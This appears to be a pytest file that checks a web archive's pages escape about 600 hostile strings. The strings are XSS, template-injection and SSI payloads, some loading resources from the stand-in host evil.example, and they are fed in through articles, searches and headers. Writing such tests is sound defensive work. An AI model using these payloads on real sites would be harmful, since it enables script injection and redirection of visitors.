"""Texts of pages that would act if one place forgot to escape them: 600 in every field that is shown. Nothing runs, nothing is asked for."""

import itertools
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import lxml.html
import pytest

from tests.catalog.lines import Crawl, id_of
from tests.releases.archives import released, url, write
from tests.web.rooms import Room, room_of

OPENERS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "</title>",
    "</script>",
    "</textarea>",
    "</mark>",
    "]]>",
    "&quot;>",
    "\u2028",
    "＜",
    "{{",
    "${",
)
ACTS = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert&#40;1&#41;</script></svg>", "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<form action=//evil.example><input autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>", "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<table background=//evil.example/x.png>", "<input type=image src=//evil.example/x.png>", "x onmouseover=alert(1) y",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/", "{{7*7}}", "${7*7}",
    "<%= 7*7 %>", "#{7*7}", "<!--#exec cmd=id-->", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xmp><script>alert(1)</script>", "<plaintext>",
    "<marquee onstart=alert(1)>", "<select><option onclick=alert(1)>", "<template><script>alert(1)</script></template>",
)  # fmt: skip
HOSTILE = [opener + act for opener, act in itertools.product(OPENERS, ACTS)]
ALLOWED = {"stylesheet", "icon", "canonical", "prev", "next", "noreferrer nofollow", None}


@pytest.fixture(scope="module")
def room(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Room]:
    folder: Path = tmp_path_factory.mktemp("hostile")
    made = Crawl(0)
    for number, text in enumerate(HOSTILE):
        day = f"20{10 + number % 10}-0{1 + number % 9}-1{number % 10}"
        made.read(url(number), f"第{number}条。{text}\n{text}", title=text, date=day, section=text, source=text)
    later = Crawl(1)
    for number, text in enumerate(HOSTILE[:20]):
        later.read(
            url(number),
            f"第{number}条改了。{text}",
            title=f"{text}改",
            date="2020-01-01",
            section=text,
            source=text,
        )
    later.missing(*(url(number) for number in range(20, 24)))
    output = write(folder / "output", made, later)
    released(output, allow=["leaks"])
    with room_of(output, folder / "cache") as room:
        yield room


SHAPES = {"bar": {"rect"}, "pygal-chart": {"a", "circle", "g", "path", "rect", "text", "title"}}
"""Elements of our pictures, by their class."""


def acting(text: str) -> list[str]:
    """Elements of a page that are not of the reading room, or that would do something."""
    found = []
    for element in lxml.html.document_fromstring(text).iter():
        if not isinstance(element.tag, str):
            found.append("comment")
            continue
        if element.tag in (
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "base",
            "svg",
            "math",
            "video",
            "form",
            "meta",
            "link",
        ):
            is_ours = {
                "form": element.get("action", "").startswith("/"),
                "meta": element.get("http-equiv") is None,
                "link": element.get("href", "").startswith("/"),
                "script": re.fullmatch(r"/static/[a-z]+\.js", element.get("src", "")) is not None and not element.text,
                "iframe": element.get("sandbox") == "" and element.get("src", "").startswith("/captures/"),
                "svg": {each.tag for each in element.iterdescendants()} <= SHAPES.get(element.get("class", ""), set()),
            }.get(element.tag, False)
            if not is_ours:
                found.append(lxml.html.tostring(element, encoding="unicode")[:100])
        for name, value in element.attrib.items():
            if str(name).startswith("on") or name in ("style", "srcdoc", "background"):
                found.append(f"{element.tag} {name}")
            if name in ("href", "src", "action") and not str(value).startswith(
                ("/", "#", "http://www.gdfupin.org.cn/")
            ):
                found.append(f"{element.tag} {name}={value!r}")
            if name in ("href", "src", "action") and str(value).startswith("//"):
                found.append(f"{element.tag} {name}={value!r}")
    return found


def test_there_are_500_texts_and_more() -> None:
    assert len(set(HOSTILE)) >= 500


@pytest.mark.parametrize(
    "act",
    [
        act
        for act in ACTS
        if (act.startswith("<") and "evil.example" in act) or ("alert" in act and act.startswith(("<s", "<i")))
    ],
)
def test_a_text_that_is_not_escaped_would_be_found(act: str) -> None:
    assert acting(f"<!DOCTYPE html><html><body><p>{act}</p></body></html>")


def test_no_text_of_an_article_acts_on_any_page(room: Room) -> None:
    lists = [
        "/",
        "/gone?limit=200",
        "/gone?what=gone",
        "/reprints",
        "/sections",
        "/data",
        *(f"/search?sort=date&limit=200&offset={at}" for at in (0, 200, 400, 600)),
    ]
    articles = [f"/articles/{id_of(url(number))}" for number in range(0, len(HOSTILE), 3)]
    compared = [
        f"/articles/{id_of(url(number))}/{page}"
        for number in range(20)
        for page in ("compare", "compare?view=side", "cite")
    ]
    for address in (*lists, *articles, *compared):
        got = room.get(address)
        assert got.status == 200, address
        assert acting(got.text) == [], address


@pytest.mark.parametrize("address", ["/search", "/trends", "/lookup", "/search?section=x"])
def test_no_text_that_is_typed_acts(room: Room, address: str) -> None:
    for text in HOSTILE[::4]:
        got = room.get(
            address, {"X-Forwarded-Host": text.encode("ascii", "ignore").decode().replace("\t", " ")}, q=text
        )
        assert got.status in (200, 400)
        assert acting(got.text) == [], text


def test_a_browser_runs_nothing_of_it(window: Any, room: Room) -> None:
    for address in (
        "/",
        "/search?limit=200",
        "/search?limit=200&offset=400",
        "/sections",
        "/reprints",
        "/gone",
        f"/articles/{id_of(url(5))}/compare",
    ):
        window.goto(room.url + address)
        assert window.problems == [], address
